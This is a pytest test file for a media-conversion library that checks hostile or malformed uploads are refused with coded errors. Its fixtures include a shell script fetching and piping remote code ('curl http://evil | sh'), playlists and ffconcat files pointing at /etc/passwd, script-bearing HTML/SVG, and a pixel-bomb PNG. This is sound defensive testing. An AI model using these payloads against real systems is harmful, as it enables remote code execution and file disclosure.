"""Every hostile or broken input from issue 5: a clear error with a code and a reason, no output."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import pytest

from media.errors import CorruptMedia, MediaError, MediaTooBig, MissingStream, UnsupportedMedia
from media.ffmpeg import Input, file_arg, run_ffmpeg
from media.fit import fit
from media.probe import probe
from media.sniff import MP4


def _png_declaring(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 64)  # far too little data: never decoded anyway
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def _gif_with_frames(count: int) -> bytes:
    header = b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
    frame = (
        b"\x21\xf9\x04\x00\x02\x00\x00\x00"  # graphic control: 20 ms
        b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00"  # 1x1 image
        b"\x02\x02\x44\x01\x00"  # LZW data
    )
    return header + frame * count + b"\x3b"


def _fails(src: Path, tmp_path: Path, error: type[MediaError], code: str) -> MediaError:
    out = tmp_path / "out"
    with pytest.raises(error) as caught:
        fit(src, "rcs_image" if error is not MissingStream else "rcs_video", out)
    assert caught.value.code == code
    assert caught.value.message_zh and caught.value.message_en
    assert not out.exists()
    return caught.value


def test_html_renamed_as_jpg(tmp_path: Path) -> None:
    src = tmp_path / "cat.jpg"
    src.write_text("<!doctype html><script>document.cookie</script>")
    _fails(src, tmp_path, UnsupportedMedia, "refused_html")


def test_script_renamed_as_mp4(tmp_path: Path) -> None:
    src = tmp_path / "clip.mp4"
    src.write_text("#!/bin/sh\ncurl http://evil | sh\n")
    _fails(src, tmp_path, UnsupportedMedia, "refused_script")


def test_svg(tmp_path: Path) -> None:
    src = tmp_path / "logo.svg"
    src.write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>')
    error = _fails(src, tmp_path, UnsupportedMedia, "refused_svg")
    assert "SVG" in error.message_zh


def test_zero_bytes(tmp_path: Path) -> None:
    src = tmp_path / "empty.jpg"
    src.write_bytes(b"")
    _fails(src, tmp_path, CorruptMedia, "empty")


@pytest.mark.parametrize("cut", ["moov-at-end", "faststart"])
def test_truncated_mp4(clip: Path, tmp_path: Path, cut: str) -> None:
    src = clip
    if cut == "faststart":  # index first, so only decoding the media data finds the damage
        src = tmp_path / "faststart"
        run_ffmpeg([Input(clip, "mov")],
                   ["-c", "copy", "-movflags", "+faststart", "-f", "mp4", file_arg(src)])
    truncated = tmp_path / "truncated.mp4"
    truncated.write_bytes(src.read_bytes()[: src.stat().st_size // 2])
    out = tmp_path / "out"
    with pytest.raises(CorruptMedia) as caught:
        fit(truncated, "rcs_video", out)
    assert caught.value.code == "corrupt" and not out.exists()
    with pytest.raises(CorruptMedia):
        probe(truncated, decode=True)


def test_png_declaring_100000_by_100000(tmp_path: Path) -> None:
    src = tmp_path / "bomb.png"
    src.write_bytes(_png_declaring(100_000, 100_000))
    _fails(src, tmp_path, MediaTooBig, "too_many_pixels")


def test_png_just_over_the_pixel_cap_names_the_size(tmp_path: Path) -> None:
    src = tmp_path / "big.png"
    src.write_bytes(_png_declaring(8_000, 7_000))  # 56 MP: below Pillow's own limit
    error = _fails(src, tmp_path, MediaTooBig, "too_many_pixels")
    assert "8000×7000" in error.message_zh


def test_gif_with_thousands_of_frames(tmp_path: Path) -> None:
    src = tmp_path / "long.gif"
    src.write_bytes(_gif_with_frames(3_000))
    error = _fails(src, tmp_path, MediaTooBig, "too_many_frames")
    assert "3000" in error.message_zh


def test_playlist_referencing_a_url_and_a_local_file(tmp_path: Path) -> None:
    src = tmp_path / "movie.mp4"
    src.write_text("#EXTM3U\n#EXTINF:1,\nhttp://example.com/a.ts\n#EXTINF:1,\n/etc/passwd\n")
    _fails(src, tmp_path, UnsupportedMedia, "refused_playlist")
    # Even past the sniffer, the forced demuxer reads it as MP4, never as a playlist.
    with pytest.raises(CorruptMedia):
        probe(src, MP4)


def test_concat_script_referencing_a_local_file(tmp_path: Path) -> None:
    src = tmp_path / "clip.mov"
    src.write_text("ffconcat version 1.0\nfile '/etc/passwd'\n")
    _fails(src, tmp_path, UnsupportedMedia, "refused_playlist")
    with pytest.raises(CorruptMedia):
        probe(src, MP4)


def test_video_without_a_video_stream(audio_only_mp4: Path, tmp_path: Path) -> None:
    _fails(audio_only_mp4, tmp_path, MissingStream, "no_video")


def test_random_bytes_after_a_valid_signature(tmp_path: Path) -> None:
    src = tmp_path / "fake.jpg"
    src.write_bytes(b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8)
    _fails(src, tmp_path, CorruptMedia, "corrupt")


def test_truncated_jpeg(photo: Path, tmp_path: Path) -> None:
    src = tmp_path / "cut.jpg"
    src.write_bytes(photo.read_bytes()[:20_000])
    _fails(src, tmp_path, CorruptMedia, "corrupt")
